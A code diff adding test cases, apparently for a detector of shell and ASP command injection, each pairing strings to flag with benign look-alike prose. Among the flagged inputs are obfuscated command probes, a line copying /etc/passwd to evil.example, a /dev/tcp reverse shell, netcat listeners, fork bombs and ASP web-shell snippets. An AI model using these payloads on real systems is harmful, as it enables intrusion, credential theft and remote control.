@@ -68,6 +68,13 @@ COMMAND_WORDS_IN_PROSE = (
     "dig deep",
     "bin/rails server",
     "http://example.com/bin/download",
+    "nohup explained",
+    "strace output looks weird",
+    "RC car.sh toy",
+    "rc1 release notes",
+    "cut the cake",
+    '<?xml version="1.0"?><note><body>watch this</body><to>Ann</to></note>',
+    '<?xml version="1.0"?><r><v>cut the cake</v></r>',
 )
 
 CASES: tuple[Case, ...] = (
@@ -80,6 +87,14 @@ CASES: tuple[Case, ...] = (
          # A variable as the command, output piped into a shell, a subshell, /dev/tcp through a variable.
          "|$u wget test", "a=nc&&$a -nlvp 555", "whxami|sh ``", "d=/dev&&(sh)0>$d/tcp/51.15.142.164/777",
          "x; ls 2>&1", ";chmod +x evil.php", "; chmod 4755 /tmp/x",
+         # Separators at a value's start or glued after a space; ssh-family to user@host; at jobs;
+         # a variable assigned then used inside a word; backticked commands glued; expr probes.
+         ";top Something else", "=;uname", "; ;id", "x ;whoami", ";ssh-copy-id user@server",
+         "|ssh root@10.0.0.1", "&& scp /etc/passwd me@evil.example:/tmp", ';at 2:00 "echo test"',
+         "&&at now", "v='u';cu$v\\r\\l x.example", "x=\"h\";w${x}oami", "`cut x1``dig y2`",
+         "`id``whoami`", "; expr 7 \\* 7", "|expr 3482 * 7301", "1|sleep 5", "1&&sleep 5",
+         # ps with its option words; " & id" ending a value.
+         "; ps aux", "|ps -ef", "x & whoami",
          # Here-strings after a separator, alias/unalias, sqlite and vi shell escapes.
          ";irb<<<1+2", ";gcc10.1<<<'void main(){}'", "alias ls-al='ls -al'", "alias -p jzfrx=id", "; unalias -a",
          ";\\n.shell nc 10.0.0.1 6666 -e sh", ";vim -c:\\!pwd", "uname$u -a", "{n$u\\c$u,-nlvp,777}",
@@ -93,12 +108,29 @@ CASES: tuple[Case, ...] = (
          "aka Bob; alias = Robert", "a .shell css class", "Use `git pull --rebase` then `npm run build`.",
          "Run `ls -la` to list files, then `cat README.md`.", "wow!! \\!important", "US$-5 off",
          # A single "&" or a line break before a word: a flag parameter or a one-word line.
-         "cats&more", "page=2&id", "a=1&time"),
+         "cats&more", "page=2&id", "a=1&time",
+         "Meeting moved; at 2:00 we start", "We moved the standup ;at 9:30 now.", "margin:0;top:0",
+         "transition: top 0.3s ease;top:0", "email me at bob@example.com; or ssh bob@build01",
+         "console.log(`${a} and ${b}`)", "key='value'; other='thing'", "a=1;b=2;c=3",
+         "lunch;at noon", "R&D;top priority", "sizes: S;M;L;XL", "expression 7 * 7 = 49",
+         "| ps aux | list processes |", "Sure; I''d love to", "ok; can''t make it", "R & D",
+         "user id & password", "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "perl's regex; python's re"),
+    ),
+    Case(
+        "UNIXCommandSplicing",
+        (";wh''oami", "|c\\at /etc/hosts", '&& ne""tstat -an', "0;pi\\ng -c 3 127.0.0.1",
+         "$(pyt\\hon -c 'x')",
+         "; w'h'o'am'i", ";ca''t /etc/hosts", "|u\\name -a"),
+        ("Sure; I''d love to", "ok; can''t make it", "perl's regex; python's re", "x; cat's toy",
+         "Paths: C:\\Windows;C:\\Program Files\\Git\\bin", "a;b\\c"),
     ),
     Case(
         "UNIXShellCommandsUnquoted",
-        ("; w'h'o'am'i", "| c\\at /et\\c/pas\\swd", "ti''me curl coreruleset.org"),
-        ("who am I?", "the cat sat on the mat", "time's up, curl your hair", "whoami meaning",
+        ("; w'h'o'am'i", "| c\\at /et\\c/pas\\swd", "ti''me curl coreruleset.org",
+         # A network tool aimed at this machine or an address once the quotes are gone.
+         "'c'url localhost", '"w"get localhost', "c'u'rl 10.0.0.1", 'w"g"et 127.0.0.1:8080/x'),
+        ("O'keefe's dog", 'That\'s two "O"s in goose', "ping me later", "curl localhost-ish hair",
+         "who am I?", "the cat sat on the mat", "time's up, curl your hair", "whoami meaning",
          "ifconfig not found", "wget-style downloads are supported by our CLI", "curl-free hair cream"),
     ),
     Case(
@@ -116,6 +148,8 @@ CASES: tuple[Case, ...] = (
             "cscli alerts list", "'cscli' alerts list", "aa-disable php-fpm", "time bsdtar ", "nohup ifconfig",
             "strace ifconfig", "bin/visudo", "bin/ansible", "time; cscli alerts list", ";rmt-tar", "\\ls", "whoami;x",
             "\\cat /etc/hosts",
+            # A prefix that only runs another program, then a command word; other shells.
+            "nohup who", "strace who\n", "setsid id", "ltrace ls -l", "fish -c id", "mksh -c 'id'",
         ),
         COMMAND_WORDS_IN_PROSE,
     ),
@@ -125,13 +159,20 @@ CASES: tuple[Case, ...] = (
          "cat /etc/pa[s]swd", "/etc/[!q]asswd", "/etc/[m-z]asswd", "cat /[e//]tc/[p//]asswd", "ls /a[b///]c",
          "$(cmd)", '"$(cmd)"', "$(id -u)", "$((1+2))", "$[]", "$[2*2]", "ping$() 127.0.0.1", "ping`` 127.0.0.1",
          "c$!at /et$!c/pas$!swd", "~+", "~-", "~-1", "!-1!-2", "() { :; }; /bin/id", ":(){ :|:& };:",
-         "f(){ f & f; };f", "$c1$c2$c3$c4", "{,/?s?/?i?/c?t,/e??/p??s??,}", "c{a,oun}t /etc/hosts", "{,ip,a}"),
+         "f(){ f & f; };f", "$c1$c2$c3$c4", "{,/?s?/?i?/c?t,/e??/p??s??,}", "c{a,oun}t /etc/hosts", "{,ip,a}",
+         # Globs in two consecutive path segments; a whole value that is one shell variable; a pipe
+         # into a glued expansion; a word spelled between empty quotes.
+         "/e?c/?asswd", "/??c/p?ss?d", "/e*c/*asswd", "/b?n/c?t /e?c/p?sswd", "${cmd}", "${IFS}",
+         "echo | ${cc}gcc7.4", '""w""h""o""a""m""i""', "''i''f''c''o''n''f''i''g''"),
         ("filter[name]=shoes", "price ${total}", "{a: 1, b: 2}", "/pages/[id]/edit", "/app/[slug]/page.tsx",
          "[link](/docs/[id]/x)", "items[0][name]", "$(document).ready(function(){ $('#a').hide(); });",
          "var el = $(this);", "Hello ${user.name}, your order ${order.id} shipped", "$[0].name", "$['store']['book']",
          "~5 minutes", "~/projects/app is my folder", "wow!!", "!important", "function () { return 1; }",
          "setTimeout(function () { x(); }, 10)", "const f = () => { return a | b; }", "get mask() { return A | B; }",
-         "use ``code`` here", "*.{js,ts}", "{a,b,c}.txt", "src/**/*.js"),
+         "use ``code`` here", "*.{js,ts}", "{a,b,c}.txt", "src/**/*.js",
+         "/api/*/users", "/usr/lib/python3/dist-packages", "/home/*/public_html", "${user.name}",
+         "The value was ''a''b''c'' in the log", 'He said ""yes"" and left', "Budget ~5k; ~3 weeks",
+         '<?xml version="1.0"?><r><v>(function(){ return 1; })()</v></r>'),
     ),
     Case(
         "UNIXConfigFileUpload",
@@ -148,17 +189,31 @@ CASES: tuple[Case, ...] = (
          "& FOR /L /L %~ IN (1,1,9) DO cmd", "if/i x==y calc", "for %variable in (set) do command",
          "for /f \"usebackq\" %v in (`command`) do command", ";iwr http://example.com/path/file.ps1",
          ";iwmi -class Win32_process -name Create", "; regedit /E c:\\ads\\file.txt HKEY_CURRENT_USER\\Key",
-         "&bcdboot /r file.txt", "& icacls C:\\x /grant Everyone:F", "& whoami /priv", "| ipconfig"),
+         "&bcdboot /r file.txt", "& icacls C:\\x /grant Everyone:F", "& whoami /priv", "| ipconfig",
+         # cmd.exe carets and empty quote pairs spliced into a command word.
+         "& w^h^o^a^m^i", "| n^et u^ser", "&& c^md /c dir", '& who""ami', "|| ipco^nfig"),
         ("Windows 11 type cover", "the power shell of a turtle", "for a in list do x", "if a == b then c",
          "for each item in the cart do checkout", "for 50% in (cash) do pay", "copy/paste doesn't work",
          "start /b", "Q&A /s", "rock & roll /r/music", "attrib sheet", "if /i like it", "whoami meaning",
-         "ipconfig shows no address"),
+         "ipconfig shows no address", "x^2 + y^2", "I love C^2 math", "version ^1.2.3", "a & b^c",
+         "Caret ^ symbol"),
+    ),
+    Case(
+        "ASPCodeInjection",
+        ('Ex"&"e"&"cute("x")', 'Server.CreateObject("WScript.Shell")', "x:On Error Resume Next:y",
+         'CreateObject("Scripting.FileSystemObject")', 'ExecuteGlobal "x"', "Server.ScriptTimeout=3600",
+         '<%eval request("x")%>', '<% Execute(Request("c")) %>', '<%@ Page Language="Jscript"%>'),
+        ('="Hello"&" "&"World"', 'cmd.Execute("SELECT 1")', "Please execute the plan", "the server restarted",
+         "On error, resume the next step", "Rock & Roll", "Execute order 66", "<%= title %>",
+         "<% if user %>hi<% end %>", "evaluate the request later"),
     ),
     Case(
         "UNIXShellStructure",
         ("127.0.0.1;xyz", "x$(tool)", ";./exploit", "|| doit /tmp/x", "';frob;'", "$(<flag.txt)",
-         "foo`xyz`", "&& custombin -x", "; frob > /tmp/x", ";${IFS}x", "a&&xyz&&b"),
+         "foo`xyz`", "&& custombin -x", "; frob > /tmp/x", ";${IFS}x", "a&&xyz&&b",
+         ";ec\\ho p\\wned > /tmp/x", "127.0.0.1; ./backdoor"),
         ("done; see below", "$(document).ready(fn)", "$(this).hide();", "Tom & Jerry -- live",
+         "`npm install` then `npm test`", "The parameter 5 is&|.", "/api/v1/items;v=2",
          "Use `a && b` in bash", "| Column | Type |", '"a";"b";"c"', "rock && roll", "Q&A; FAQ",
          "x = `hello ${name}`;", "Tip; use -v for more output"),
     ),
